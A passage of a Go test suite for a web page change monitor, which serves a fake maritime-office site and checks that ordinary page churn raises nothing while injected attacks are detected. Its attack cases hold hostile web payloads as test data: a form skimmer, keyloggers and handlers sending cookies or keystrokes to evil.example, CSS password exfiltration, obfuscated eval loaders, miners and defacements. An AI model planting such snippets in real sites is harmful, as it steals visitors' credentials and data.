package web

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
)

// front is a page of a living site: NONCE, TOKEN, NUMBER and NAME are made up for each answer.
const front = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Maritime Office</title>
<link rel="stylesheet" href="/css/site.css?v=3"><link rel="icon" href="/favicon.ico">
<script src="/js/site.js?v=NUMBER"></script>
<script src="https://stats.example.org/s.js" integrity="sha384-AAAA" crossorigin="anonymous"></script>
<script src="/js/boot.js"></script><script src="https://unpkg.com/lib@1.2.3/lib.js"></script>
<script nonce="NONCE">window.__STATE__ = {"user": null, "csrf": "TOKEN", "items": [{"id": NUMBER, "title": "Notice"}], "at": NUMBER};</script>
<script nonce="NONCE">(function (w, d, s, i) { w[i] = w[i] || []; var j = d.createElement(s); j.async = true; j.src = "https://tags.example.net/gtm.js?id=" + i; d.head.appendChild(j) })(window, document, "script", "GTM-ABC123");</script>
</head><body class="css-NAME"><!-- generated at NUMBER -->
<header><img src="/img/hero.jpg" alt="The building"><h1>Welcome</h1></header>
<nav><ul><li><a href="/news?sid=TOKEN">News</a></li><li><a href="/meetings">Meetings</a></li><li><a href="https://un.example/">United Nations</a></li></ul></nav>
<main id="m-NAME"><p>The organisation sets standards for the safety, security and environmental performance of international shipping.</p>
<p>Its committees meet twice a year with interpretation into six languages, and their papers are public.</p>
<ul class="news"><li><a href="/news/1">The council elected its chair</a></li><li><a href="/news/2">New rules on ballast water enter into force</a></li></ul>
<a href="/files/tool-setup.exe">Charting tool</a>
<form action="/sign-in" method="post"><input name="user"><input name="password" type="password"><input type="hidden" name="csrf" value="TOKEN"></form>
<button onclick="toggle('menu-NUMBER')">Menu</button></main>
<iframe src="https://video.example.org/embed/1" loading="lazy"></iframe>
<footer>Visitors: NUMBER</footer></body></html>`

const frontPolicy = "default-src 'self'; script-src 'self' 'nonce-NONCE' https://stats.example.org https://tags.example.net; frame-src https://video.example.org; form-action 'self'; object-src 'none'"

// scene is a site that a test changes between approval and the look after it.
type scene struct {
	page    func(r *http.Request) string
	files   map[string]string
	headers map[string]string
	before  func(w http.ResponseWriter, r *http.Request) bool // true: it answered
	n       atomic.Int64
}

func newScene() *scene {
	return &scene{
		page: func(*http.Request) string { return front },
		files: map[string]string{
			"/js/site.js":           "function toggle(id) { document.getElementById(id).classList.toggle('open') }\nvar built = 1;",
			"/js/boot.js":           `eval(atob("cnVuKCk="))`,
			"/css/site.css":         "body { font: 16px sans-serif } .open { display: block }",
			"/files/tool-setup.exe": "MZ the tool",
		},
		headers: map[string]string{
			"Content-Security-Policy": frontPolicy, "Strict-Transport-Security": "max-age=31536000; includeSubDomains", "X-Frame-Options": "DENY",
			"X-Content-Type-Options": "nosniff", "Referrer-Policy": "strict-origin-when-cross-origin",
		},
	}
}

func (s *scene) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	n := s.n.Add(1)
	fill := strings.NewReplacer("NONCE", fmt.Sprintf("n%dx", n*7919), "TOKEN", fmt.Sprintf("%032x", n*104729), "NUMBER", fmt.Sprint(1000+n*31), "NAME", fmt.Sprintf("h%xk", n*65537))
	for name, value := range s.headers {
		w.Header().Set(name, fill.Replace(value))
	}
	if s.before != nil && s.before(w, r) {
		return
	}
	if text, ok := s.files[r.URL.Path]; ok {
		for suffix, kind := range map[string]string{".css": "text/css", ".js": "text/javascript", ".svg": "image/svg+xml"} {
			if strings.HasSuffix(r.URL.Path, suffix) {
				w.Header().Set("Content-Type", kind)
			}
		}
		io.WriteString(w, text)
		return
	}
	if r.URL.Path != "/" {
		http.NotFound(w, r)
		return
	}
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	io.WriteString(w, fill.Replace(s.page(r)))
}

// put changes the page: every old text is replaced by the new one after it.
func (s *scene) put(t testing.TB, oldNew ...string) {
	t.Helper()
	was := s.page
	for i := 0; i < len(oldNew); i += 2 {
		if !strings.Contains(was(&http.Request{Header: http.Header{}}), oldNew[i]) {
			t.Fatalf("the page has no %q to replace: the case would show nothing", oldNew[i])
		}
	}
	replace := strings.NewReplacer(oldNew...)
	s.page = func(r *http.Request) string { return replace.Replace(was(r)) }
}

// only shows a change to those whom it is for.
func (s *scene) only(t testing.TB, who func(r *http.Request) bool, oldNew ...string) {
	t.Helper()
	was := s.page
	s.put(t, oldNew...)
	changed := s.page
	s.page = func(r *http.Request) string {
		if who(r) {
			return changed(r)
		}
		return was(r)
	}
}

// end puts something at the end of the page.
func (s *scene) end(t testing.TB, text string) { t.Helper(); s.put(t, "</body>", text+"</body>") }

// head puts something into the head of the page.
func (s *scene) head(t testing.TB, text string) { t.Helper(); s.put(t, "</head>", text+"</head>") }

func (s *scene) odd() bool { return s.n.Load()%2 == 1 }

// living is a case of what pages do all the time: during approval too, or only after it.
type living struct {
	name  string
	ever  func(t testing.TB, s *scene)
	later func(t testing.TB, s *scene)
}

var livingCases = []living{
	{name: "nonces, tokens, numbers, names and state made up for each answer"},
	{name: "a rotating banner", ever: func(t testing.TB, s *scene) {
		was := s.page
		s.page = func(r *http.Request) string {
			return strings.Replace(was(r), "<main", fmt.Sprintf(`<div class="banner"><img src="/img/banner-%d.png"><a href="/campaign/%d">See the campaign number %d</a></div><main`, s.n.Load()%5, s.n.Load()%5, s.n.Load()%5), 1)
		}
	}},
	{name: "two variants of the page, with other scripts", ever: func(t testing.TB, s *scene) {
		was := s.page
		s.page = func(r *http.Request) string {
			if s.odd() {
				return strings.Replace(was(r), "<h1>Welcome</h1>", `<h1>Good day</h1><script nonce="NONCE">experiment("B", document.title)</script>`, 1)
			}
			return strings.Replace(was(r), "<h1>Welcome</h1>", `<h1>Welcome</h1><script nonce="NONCE">experiment.start({arm: "A"}, window)</script>`, 1)
		}
	}},
	{name: "language by the visitor's wish", ever: func(t testing.TB, s *scene) {
		s.headers["Content-Language"], s.headers["Vary"] = "en", "Accept-Language"
	}},
	{name: "another page for mobile visitors", ever: func(t testing.TB, s *scene) {
		s.only(t, func(r *http.Request) bool { return strings.Contains(r.UserAgent(), "iPhone") },
			"<main", `<script nonce="NONCE">document.body.classList.add("touch")</script><main`, "Its committees meet twice a year with interpretation into six languages, and their papers are public.", "Committees meet twice a year.")
	}},
	{name: "a simpler page for crawlers", ever: func(t testing.TB, s *scene) {
		s.only(t, func(r *http.Request) bool { return strings.Contains(r.UserAgent(), "Googlebot") }, `<iframe src="https://video.example.org/embed/1" loading="lazy"></iframe>`, "")
	}},
	{name: "crawlers turned away", ever: func(t testing.TB, s *scene) {
		s.before = func(w http.ResponseWriter, r *http.Request) bool {
			if crawler(r) {
				http.Error(w, "You are no crawler", http.StatusForbidden)
			}
			return crawler(r)
		}
	}},
	{name: "advertisements from approved origins", ever: func(t testing.TB, s *scene) {
		was := s.page
		s.page = func(r *http.Request) string {
			n := s.n.Load()
			return strings.Replace(was(r), "<footer>", fmt.Sprintf(`<script src="https://ads.example.com/slot%d.js?u=%d"></script><iframe src="https://ads.example.com/frame?%d"></iframe><footer>`, n%7, n, n), 1)
		}
	}},
	{name: "a visitor counter", ever: func(t testing.TB, s *scene) {
		was := s.page
		s.page = func(r *http.Request) string {
			return strings.Replace(was(r), "<footer>", fmt.Sprintf("<p>You are visitor %d today</p><footer>", s.n.Load()), 1)
		}
	}},
	{name: "a time in the page", ever: func(t testing.TB, s *scene) {
		s.put(t, "<footer>", `<time datetime="2026-11-26T01:NUMBER">NUMBER</time><script nonce="NONCE">var serverTime = NUMBER, zone = "UTC";</script><footer>`)
	}},
	{name: "session numbers in links and form targets", ever: func(t testing.TB, s *scene) {
		s.put(t, `action="/sign-in"`, `action="/sign-in;jsessionid=TOKEN"`, `href="/meetings"`, `href="/meetings;jsessionid=TOKEN"`)
	}},
	{name: "state of other shape for each answer", ever: func(t testing.TB, s *scene) {
		was := s.page
		s.page = func(r *http.Request) string {
			var items strings.Builder
			for i := range s.n.Load() {
				fmt.Fprintf(&items, `{"id": %d, "tags": ["a", "b"], "open": %v, "parent": null},`, i, i%2 == 0)
			}
			return strings.Replace(was(r), "</head>", `<script nonce="NONCE">window.list = [`+items.String()+`]; render(window.list)</script></head>`, 1)
		}
	}},
	{name: "state with news and links in it", ever: func(t testing.TB, s *scene) {
		was := s.page
		s.page = func(r *http.Request) string {
			return strings.Replace(was(r), "</head>", fmt.Sprintf(`<script nonce="NONCE">self.flight.push([1, "see https://press%d.example/a <b>now</b>"])</script></head>`, s.n.Load()), 1)
		}
	}},
	{name: "names of elements made up for each answer", ever: func(t testing.TB, s *scene) {
		s.put(t, "<footer>", `<div id="el-NAME" class="sc-NAME"></div><script nonce="NONCE">mount("el-NAME", document.querySelector("#el-NAME"))</script><footer>`)
	}},
	{name: "functions named for each answer", ever: func(t testing.TB, s *scene) {
		s.put(t, "<footer>", `<script nonce="NONCE">function cb_NUMBER(d) { show(d) } cb_NUMBER({"a": NUMBER});</script><footer>`)
	}},
	{name: "variables named for each answer", ever: func(t testing.TB, s *scene) {
		s.put(t, "<footer>", `<script nonce="NONCE">var vNAME = NUMBER; use(vNAME)</script><footer>`)
	}},
	{name: "variables with random names for each answer", ever: func(t testing.TB, s *scene) {
		was := s.page
		s.page = func(r *http.Request) string {
			random := strings.Map(func(digit rune) rune { return 'a' + digit - '0' }, fmt.Sprint(s.n.Load()*7919+1e6))
			return strings.Replace(was(r), "<footer>", fmt.Sprintf(`<script nonce="NONCE">var %s = 7; measure(%s, "x")</script><footer>`, random, random), 1)
		}
	}},
	{name: "a variable more", later: func(t testing.TB, s *scene) {
		s.end(t, `<script nonce="NONCE">var newsletter = {"shown": true, "see": "https://un.example/"};</script>`)
	}},
	{name: "a variant that one visitor in five is shown", ever: func(t testing.TB, s *scene) {
		was, pages := s.page, 0
		s.page = func(r *http.Request) string {
			if pages++; pages%5 == 0 {
				return strings.Replace(was(r), "<footer>", `<script nonce="NONCE">survey.ask(document.title)</script><footer>`, 1)
			}
			return was(r)
		}
	}},
	{name: "two texts, one by the day", ever: func(t testing.TB, s *scene) {
		was, pages := s.page, 0
		s.page = func(r *http.Request) string {
			if pages++; pages%2 == 0 {
				return `<html><head><title>Day of the Seafarer</title></head><body><main><h1>Day of the Seafarer</h1><p>Today the organisation honours the seafarers of the world, without whom no ship would move and no shelf would be full.</p></main></body></html>`
			}
			return was(r)
		}
	}},
	{name: "a rotating banner, and an article with a picture from elsewhere", ever: func(t testing.TB, s *scene) {
		was := s.page
		s.page = func(r *http.Request) string {
			return strings.Replace(was(r), "<main", fmt.Sprintf(`<img src="/img/banner-%d.png"><main`, s.n.Load()), 1)
		}
	}, later: func(t testing.TB, s *scene) {
		was := s.page
		s.page = func(r *http.Request) string {
			return strings.Replace(was(r), `<ul class="news">`, `<ul class="news"><li><img src="https://press.example/p.jpg"></li>`, 1)
		}
	}},
	{name: "style sheets made up for each answer", ever: func(t testing.TB, s *scene) {
		s.put(t, "</head>", `<style>.css-NAME{color:red}.sc-NAME::before{content:"NUMBER"}</style></head>`)
	}},
	{name: "a script file made for each answer", ever: func(t testing.TB, s *scene) {
		s.head(t, `<script src="/config.js"></script>`)
		s.before = func(w http.ResponseWriter, r *http.Request) bool {
			if r.URL.Path == "/config.js" {
				fmt.Fprintf(w, "window.config = {build: %d, flags: [%d], api: '/v1'};", s.n.Load(), s.n.Load())
			}
			return r.URL.Path == "/config.js"
		}
	}},
	{name: "a header that is there sometimes", ever: func(t testing.TB, s *scene) {
		delete(s.headers, "X-Frame-Options")
		s.before = func(w http.ResponseWriter, _ *http.Request) bool {
			if s.odd() {
				w.Header().Set("X-Frame-Options", "SAMEORIGIN")
			}
			return false
		}
	}},
	{name: "dates, tags and cookies in headers", ever: func(t testing.TB, s *scene) {
		s.headers["Etag"], s.headers["Set-Cookie"], s.headers["Date"] = `"TOKEN"`, "sid=TOKEN; HttpOnly", "Thu, 26 Nov 2026 01:00:00 GMT"
	}},
	{name: "an honest redirect to a language", ever: func(t testing.TB, s *scene) {
		s.before = func(w http.ResponseWriter, r *http.Request) bool {
			if r.URL.Path == "/" && r.URL.RawQuery == "" {
				http.Redirect(w, r, "/?lang=en", http.StatusFound)
				return true
			}
			return false
		}
	}},

	{name: "edited text", later: func(t testing.TB, s *scene) {
		s.put(t, "twice a year with interpretation into six languages", "four times a year, in London and online, in six languages")
	}},
	{name: "a new article in the list, and the oldest gone", later: func(t testing.TB, s *scene) {
		s.put(t, `<li><a href="/news/1">The council elected its chair</a></li>`, `<li><a href="/news/3">Search and rescue plan agreed by all regions</a></li>`)
	}},
	{name: "an article with a link and a picture from elsewhere", later: func(t testing.TB, s *scene) {
		s.put(t, `<ul class="news">`, `<ul class="news"><li><a href="https://press.example/2026/11">Press on the council</a><img src="https://press.example/p.jpg"></li>`)
	}},
	{name: "another cache buster", later: func(t testing.TB, s *scene) { s.put(t, "site.css?v=3", "site.css?v=20261126") }},
	{name: "a file under another name with the same content", later: func(t testing.TB, s *scene) {
		s.put(t, "/js/site.js?v=NUMBER", "/js/site.8f3a91.js")
		s.files["/js/site.8f3a91.js"] = s.files["/js/site.js"]
	}},
	{name: "a cookie banner in the page's own mark-up", later: func(t testing.TB, s *scene) {
		s.put(t, "<footer>", `<div class="consent" style="position:fixed;bottom:0"><p>We use cookies.</p><button onclick="toggle('menu-7')">Fine</button></div><footer>`)
	}},
	{name: "a seasonal notice", later: func(t testing.TB, s *scene) {
		s.put(t, "<main", `<div class="notice"><h2>Office closed</h2><p>The building is closed from 24 December to 2 January.</p></div><main`)
	}},
	{name: "pagination", later: func(t testing.TB, s *scene) {
		s.put(t, "</ul>\n<a", `</ul><a href="/news?page=2">2</a><a href="/news?page=3">3</a>`+"\n<a")
	}},
	{name: "pictures that load late", later: func(t testing.TB, s *scene) {
		s.put(t, `<img src="/img/hero.jpg"`, `<img loading="lazy" data-src="/img/other.jpg" src="/img/hero.jpg"`)
	}},
	{name: "data about the page", later: func(t testing.TB, s *scene) {
		s.head(t, `<script type="application/ld+json">{"@context":"https://schema.org","url":"https://www.example.org"}</script><meta property="og:image" content="https://cdn.example/og.png">`)
	}},
	{name: "another title", later: func(t testing.TB, s *scene) {
		s.put(t, "<title>Maritime Office", "<title>Maritime Office: 130th session of the council")
	}},
	{name: "comments", later: func(t testing.TB, s *scene) {
		s.put(t, "<header>", `<!-- <script src="https://old.example/x.js"></script> --><header>`)
	}},
	{name: "blanks and order of attributes", later: func(t testing.TB, s *scene) {
		s.put(t, `<script src="https://stats.example.org/s.js" integrity="sha384-AAAA" crossorigin="anonymous">`, "<script  crossorigin='anonymous'\n integrity=sha384-AAAA src='https://stats.example.org/s.js' defer>")
	}},
	{name: "a stricter policy", later: func(t testing.TB, s *scene) {
		s.headers["Content-Security-Policy"] = strings.Replace(frontPolicy, " https://tags.example.net", "", 1) + "; base-uri 'none'"
		s.headers["Strict-Transport-Security"] = "max-age=63072000; includeSubDomains; preload"
	}},
	{name: "an own style sheet redesigned", later: func(t testing.TB, s *scene) {
		s.files["/css/site.css"] = "body { font: 18px serif; background: url(/img/paper.png) } .open { display: grid }"
	}},
	{name: "another script of an approved origin on the page", later: func(t testing.TB, s *scene) {
		s.end(t, `<script src="https://stats.example.org/more.js"></script>`)
	}},
	{name: "another video from the approved player", later: func(t testing.TB, s *scene) {
		s.put(t, "https://video.example.org/embed/1", "https://video.example.org/embed/992?start=4")
	}},
	{name: "a hidden menu of the page's own links", later: func(t testing.TB, s *scene) {
		s.end(t, `<nav style="display:none"><a href="/a">A</a><a href="/b">B</a><a href="https://un.example/x">UN</a></nav>`)
	}},
	{name: "a report about an attack elsewhere", later: func(t testing.TB, s *scene) {
		s.put(t, `<ul class="news">`, `<ul class="news"><li>Port of Example says its site was hacked by a criminal group in October</li>`)
	}},
}

func (c living) run(t testing.TB) (Diff, error) {
	s := newScene()
	if c.ever != nil {
		c.ever(t, s)
	}
	server := httptest.NewServer(s)
	defer server.Close()
	p := NewPages("website", []string{server.URL + "/"}, nil)
	if err := p.Approve(context.Background()); err != nil {
		return Diff{}, err
	}
	if c.later != nil {
		c.later(t, s)
	}
	diff, err := p.Diff(context.Background())
	return diff, err
}

func TestLivingPagesRaiseNothing(t *testing.T) {
	if len(livingCases) < 30 {
		t.Errorf("%d cases, want at least 30", len(livingCases))
	}
	for _, c := range livingCases {
		t.Run(c.name, func(t *testing.T) {
			diff, err := c.run(t)
			if err != nil || len(diff.Unread) > 0 {
				t.Fatalf("not compared: %v %v", err, diff.Unread)
			}
			for _, d := range diff.Pages[0].Differences {
				t.Errorf("raised %s (%s, %.2f)", d, d.Class, d.Strength)
			}
		})
	}
}

func searcher(r *http.Request) bool { return strings.Contains(r.Referer(), "google") }
func mobile(r *http.Request) bool   { return strings.Contains(r.UserAgent(), "iPhone") }
func crawler(r *http.Request) bool  { return strings.Contains(r.UserAgent(), "Googlebot") }

// attack is a case of what somebody did to the page.
type attack struct {
	name string
	kind string // of its signal
	what string // of the difference that tells it
	do   func(t testing.TB, s *scene)
	by   []string // who is shown it, if not all
}

const (
	injected = "page.injected"
	defaced  = "page.defaced"
	weaker   = "page.weakened"
)

var attacks = []attack{
	{"a script from elsewhere", injected, "script", func(t testing.TB, s *scene) { s.end(t, `<script src=http://203.0.113.66/a.js></script>`) }, nil},
	{"a script without a scheme", injected, "script", func(t testing.TB, s *scene) { s.end(t, `<script src="//cdn.evil.example/a.js"></script>`) }, nil},
	{"a skimmer in the page", injected, "script", func(t testing.TB, s *scene) {
		s.end(t, `<script>document.forms[0].addEventListener("submit",function(){navigator.sendBeacon("/img/p.gif",new FormData(this))})</script>`)
	}, nil},
	{"a key logger in the page", injected, "script", func(t testing.TB, s *scene) {
		s.end(t, `<script>document.onkeypress=function(e){new Image().src="https://evil.example/?"+e.key}</script>`)
	}, nil},
	{"hidden code", injected, "script", func(t testing.TB, s *scene) { s.end(t, `<script>eval(atob("YWxlcnQoMSk="))</script>`) }, nil},
	{"obfuscated code", injected, "script", func(t testing.TB, s *scene) {
		s.end(t, `<script>var _0x1f2a=['\x68\x74\x74\x70\x73\x3a\x2f\x2f\x65\x76\x69\x6c','\x73\x72\x63'];(function(a){document[_0x1f2a[0]](a)})(1)</script>`)
	}, nil},
	{"a variable that names another origin", injected, "script", func(t testing.TB, s *scene) {
		s.end(t, `<script>window.payAt="https://evil.example/pay"</script>`)
	}, nil},
	{"a page written by a script's one assignment", injected, "script", func(t testing.TB, s *scene) {
		s.end(t, `<script>document.body.innerHTML="<h1>Closed</h1>"</script>`)
	}, nil},
	{"a harmless looking script", injected, "script", func(t testing.TB, s *scene) { s.end(t, `<script>window.q=7;run(q)</script>`) }, nil},
	{"an invisible frame", injected, "frame", func(t testing.TB, s *scene) {
		s.end(t, `<iframe src="https://evil.example/kit" width=0 height=0 style="display:none"></iframe>`)
	}, nil},
	{"a frame of data", injected, "frame", func(t testing.TB, s *scene) {
		s.end(t, `<iframe src="data:text/html;base64,PHNjcmlwdD4="></iframe>`)
	}, nil},
	{"a frame with a document in it", injected, "script", func(t testing.TB, s *scene) {
		s.end(t, `<iframe srcdoc="<script src='/x.js'></script>"></iframe>`)
	}, nil},
	{"another form target", injected, "form", func(t testing.TB, s *scene) {
		s.put(t, `action="/sign-in"`, `action="https://evil.example/login"`)
	}, nil},
	{"another form target at home", injected, "form", func(t testing.TB, s *scene) { s.put(t, `action="/sign-in"`, `action="/uploads/c.php"`) }, nil},
	{"another target of a button", injected, "form", func(t testing.TB, s *scene) {
		s.put(t, `<button onclick`, `<button formaction="https://evil.example/login" onclick`)
	}, nil},
	{"a refresh to elsewhere", injected, "refresh", func(t testing.TB, s *scene) {
		s.head(t, `<meta http-equiv="Refresh" content="0; URL='https://evil.example/'">`)
	}, nil},
	{"a refresh at home", injected, "refresh", func(t testing.TB, s *scene) {
		s.head(t, `<meta http-equiv=refresh content="0;url=/go?to=evil.example">`)
	}, nil},
	{"a refresh for those without scripts", injected, "refresh", func(t testing.TB, s *scene) {
		s.head(t, `<noscript><meta http-equiv="refresh" content="0;url=https://evil.example/"></noscript>`)
	}, nil},
	{"a refresh in a header", injected, "header", func(t testing.TB, s *scene) { s.headers["Refresh"] = "0; url=https://evil.example/" }, nil},
	{"a service worker", injected, "script", func(t testing.TB, s *scene) {
		s.end(t, `<script>navigator.serviceWorker.register("/w.js")</script>`)
	}, nil},
	{"an event handler", injected, "handler", func(t testing.TB, s *scene) {
		s.put(t, `<img src="/img/hero.jpg"`, `<img onload="go(this)" src="/img/hero.jpg"`)
	}, nil},
	{"an event handler in SVG", injected, "handler", func(t testing.TB, s *scene) {
		s.end(t, `<svg onload="fetch('https://evil.example/?'+document.cookie)"></svg>`)
	}, nil},
	{"a script in SVG", injected, "script", func(t testing.TB, s *scene) { s.end(t, `<svg><script href="https://evil.example/a.js"/></svg>`) }, nil},
	{"a link that is code", injected, "script", func(t testing.TB, s *scene) {
		s.put(t, `href="/meetings"`, `href="java&#10;script:location='https://evil.example/'"`)
	}, nil},
	{"the integrity of a script removed", weaker, "integrity", func(t testing.TB, s *scene) { s.put(t, ` integrity="sha384-AAAA"`, "") }, nil},
	{"the integrity of a script replaced", injected, "integrity", func(t testing.TB, s *scene) { s.put(t, "sha384-AAAA", "sha384-BBBB") }, nil},
	{"an own script file with more in it", injected, "script file", func(t testing.TB, s *scene) {
		s.files["/js/site.js"] += `;(function(){var x=new XMLHttpRequest;x.open("POST","https://evil.example/");x.send(document.cookie)})()`
	}, nil},
	{"an own script file that loads another by its data alone", injected, "script file", func(t testing.TB, s *scene) {
		s.files["/js/site.js"] = "function toggle(id) { document.getElementById(id).classList.toggle('open') }\nvar built = '<script src=//evil.example></script>';"
	}, nil},
	{"an own script file that has markup with a handler in its data", injected, "script file", func(t testing.TB, s *scene) {
		s.files["/js/site.js"] = "function toggle(id) { document.getElementById(id).classList.toggle('open') }\nvar built = '<img src=x onerror=go()>';"
	}, nil},
	{"an own script file whose data is code", injected, "script file", func(t testing.TB, s *scene) {
		s.files["/js/boot.js"] = `eval(atob("ZXZpbCgp"))`
	}, nil},
	{"another file of a network that anybody may put files on", injected, "script", func(t testing.TB, s *scene) {
		s.end(t, `<script src="https://unpkg.com/evil@1.0.0/kit.js"></script>`)
	}, nil},
	{"another own script file", injected, "script file", func(t testing.TB, s *scene) {
		s.put(t, "/js/site.js?v=NUMBER", "/uploads/site.js")
		s.files["/uploads/site.js"] = s.files["/js/site.js"] + "\nsteal(document.forms)"
	}, nil},
	{"the policy removed", weaker, "header", func(t testing.TB, s *scene) { delete(s.headers, "Content-Security-Policy") }, nil},
	{"the policy weakened", weaker, "header", func(t testing.TB, s *scene) {
		s.headers["Content-Security-Policy"] = strings.Replace(frontPolicy, "script-src 'self'", "script-src 'self' 'unsafe-inline' https://evil.example", 1)
	}, nil},
	{"a directive removed", weaker, "header", func(t testing.TB, s *scene) {
		s.headers["Content-Security-Policy"] = strings.Replace(frontPolicy, "; form-action 'self'", "", 1)
	}, nil},
	{"transport security removed", weaker, "header", func(t testing.TB, s *scene) { delete(s.headers, "Strict-Transport-Security") }, nil},
	{"transport security for a minute", weaker, "header", func(t testing.TB, s *scene) {
		s.headers["Strict-Transport-Security"] = "max-age=60; includeSubDomains"
	}, nil},
	{"framing allowed", weaker, "header", func(t testing.TB, s *scene) { s.headers["X-Frame-Options"] = "ALLOWALL" }, nil},
	{"visitors sent away", injected, "redirect", func(t testing.TB, s *scene) {
		other := httptest.NewServer(newScene())
		t.Cleanup(other.Close)
		s.before = func(w http.ResponseWriter, r *http.Request) bool {
			http.Redirect(w, r, other.URL, http.StatusFound)
			return true
		}
	}, nil},
	{"only for those who come from a search", injected, "script", func(t testing.TB, s *scene) {
		s.only(t, searcher, "</body>", `<script src="https://evil.example/a.js"></script></body>`)
	}, []string{"searcher"}},
	{"not for crawlers", injected, "script", func(t testing.TB, s *scene) {
		s.only(t, func(r *http.Request) bool { return !crawler(r) }, "</body>", `<script src="https://evil.example/a.js"></script></body>`)
	}, []string{"visitor", "searcher", "mobile"}},
	{"only for mobile visitors", injected, "script", func(t testing.TB, s *scene) {
		s.only(t, mobile, "</body>", `<script>location.href="https://evil.example/m"</script></body>`)
	}, []string{"mobile"}},
	{"a redirect for those who come from a search", injected, "redirect", func(t testing.TB, s *scene) {
		other := httptest.NewServer(newScene())
		t.Cleanup(other.Close)
		s.before = func(w http.ResponseWriter, r *http.Request) bool {
			if searcher(r) {
				http.Redirect(w, r, other.URL, http.StatusFound)
			}
			return searcher(r)
		}
	}, []string{"searcher"}},
	{"another page for crawlers", defaced, "text", func(t testing.TB, s *scene) {
		was := s.page
		s.page = func(r *http.Request) string {
			if crawler(r) {
				return `<html><title>Cheap pills</title><body><h1>Cheap pills online without prescription</h1><p>Order today and save on all brands, shipped worldwide in a day.</p></body></html>`
			}
			return was(r)
		}
	}, []string{"crawler"}},
	{"a script file only for mobile visitors", injected, "script file", func(t testing.TB, s *scene) {
		s.before = func(w http.ResponseWriter, r *http.Request) bool {
			if mobile(r) && r.URL.Path == "/js/site.js" {
				io.WriteString(w, `document.write("<script src=https://evil.example/m.js></scr"+"ipt>")`)
				return true
			}
			return false
		}
	}, []string{"mobile"}},
	{"a picture replaced by one from elsewhere", defaced, "image", func(t testing.TB, s *scene) { s.put(t, "/img/hero.jpg", "https://evil.example/skull.jpg") }, nil},
	{"the page replaced", defaced, "text", func(t testing.TB, s *scene) {
		s.page = func(*http.Request) string {
			return `<html><title>0wned</title><body bgcolor=black><h1>Hacked by the Sea Crew</h1></body></html>`
		}
	}, nil},
	{"the page replaced under an error's status", defaced, "text", func(t testing.TB, s *scene) {
		s.before = func(w http.ResponseWriter, _ *http.Request) bool {
			w.WriteHeader(http.StatusForbidden)
			io.WriteString(w, `<title>0wned</title><h1>Hacked by the Sea Crew</h1>`)
			return true
		}
	}, nil},
	{"painted over by a style sheet in the page", defaced, "style", func(t testing.TB, s *scene) {
		s.head(t, `<style>body::before{content:"Hacked by the Sea Crew";position:fixed;inset:0;background:#000;z-index:9999}</style>`)
	}, nil},
	{"painted over by the own style sheet", defaced, "style", func(t testing.TB, s *scene) {
		s.files["/css/site.css"] += `html:after{content:url(/img/s.png);position:fixed;top:0;left:0;width:100vw;height:100vh}`
	}, nil},
	{"a style sheet from elsewhere", injected, "style", func(t testing.TB, s *scene) {
		s.head(t, `<link rel=stylesheet href="https://evil.example/s.css">`)
	}, nil},
	{"the own style sheet sends what is typed", injected, "style", func(t testing.TB, s *scene) {
		s.files["/css/site.css"] += `input[name=password][value^="a"]{background:url(https://evil.example/a)}`
	}, nil},
	{"an icon from elsewhere", injected, "icon", func(t testing.TB, s *scene) {
		s.put(t, `href="/favicon.ico"`, `href="https://evil.example/favicon.ico"`)
	}, nil},
	{"another base", injected, "script", func(t testing.TB, s *scene) { s.put(t, "<head>", `<head><base href="https://evil.example/">`) }, nil},
	{"loaded ahead from elsewhere", injected, "early load", func(t testing.TB, s *scene) {
		s.head(t, `<link rel="prefetch" href="https://evil.example/kit">`)
	}, nil},
	{"rules to load ahead from elsewhere", injected, "early load", func(t testing.TB, s *scene) {
		s.head(t, `<script type="speculationrules">{"prerender":[{"urls":["https://evil.example/kit"]}]}</script>`)
	}, nil},
	{"a socket out", injected, "script", func(t testing.TB, s *scene) {
		s.end(t, `<script>var k=new WebSocket("wss://evil.example/in");document.onpaste=function(e){k.send(e)}</script>`)
	}, nil},
	{"an import map", injected, "script", func(t testing.TB, s *scene) {
		s.head(t, `<script type="importmap">{"imports":{"app":"https://evil.example/app.js"}}</script>`)
	}, nil},
	{"a miner", injected, "script", func(t testing.TB, s *scene) {
		s.end(t, `<script>WebAssembly.instantiateStreaming(fetch("/m.wasm")).then(function(m){m.instance.exports.mine()})</script>`)
	}, nil},
	{"a worker that mines", injected, "script", func(t testing.TB, s *scene) {
		s.end(t, `<script>new Worker(URL.createObjectURL(new Blob(["importScripts('https://pool.evil.example/w.js')"])))</script>`)
	}, nil},
	{"an origin that looks like an approved one", injected, "script", func(t testing.TB, s *scene) {
		s.end(t, `<script src="https://stаts.exаmple.org/s.js"></script>`)
	}, nil},
	{"a link to an origin that looks like an approved one", injected, "link", func(t testing.TB, s *scene) {
		s.put(t, `href="/meetings"`, `href="https://exarnple.org/meetings"`)
	}, nil},
	{"a download from elsewhere", injected, "download", func(t testing.TB, s *scene) {
		s.put(t, "/files/tool-setup.exe", "https://evil.example/tool-setup.exe")
	}, nil},
	{"the download replaced", injected, "download", func(t testing.TB, s *scene) { s.files["/files/tool-setup.exe"] = "MZ the tool, and more" }, nil},
	{"hidden links to many", injected, "link", func(t testing.TB, s *scene) {
		var links strings.Builder
		for i := range 12 {
			fmt.Fprintf(&links, `<a href="https://pills%d.example/">cheap pills</a> `, i)
		}
		s.end(t, `<div style="position:absolute;left:-9999px">`+links.String()+`</div>`)
	}, nil},
	{"another account of the tag manager", injected, "script", func(t testing.TB, s *scene) { s.put(t, "GTM-ABC123", "GTM-EVIL66") }, nil},
	{"another origin in the tag manager's loader", injected, "script", func(t testing.TB, s *scene) {
		s.put(t, "https://tags.example.net/gtm.js", "https://tags-cdn.example.com/gtm.js")
	}, nil},
	{"an object", injected, "object", func(t testing.TB, s *scene) { s.end(t, `<object data="https://evil.example/x.swf"></object>`) }, nil},
	{"a script of data", injected, "script", func(t testing.TB, s *scene) { s.end(t, `<script src="data:text/javascript,alert(1)"></script>`) }, nil},
}

func (a attack) run(t testing.TB) (Diff, error) {
	s := newScene()
	server := httptest.NewServer(s)
	defer server.Close()
	p := NewPages("website", []string{server.URL + "/"}, nil)
	if err := p.Approve(context.Background()); err != nil {
		return Diff{}, err
	}
	a.do(t, s)
	return p.Diff(context.Background())
}

func TestAttacksAreAllTold(t *testing.T) {
	if len(attacks) < 30 {
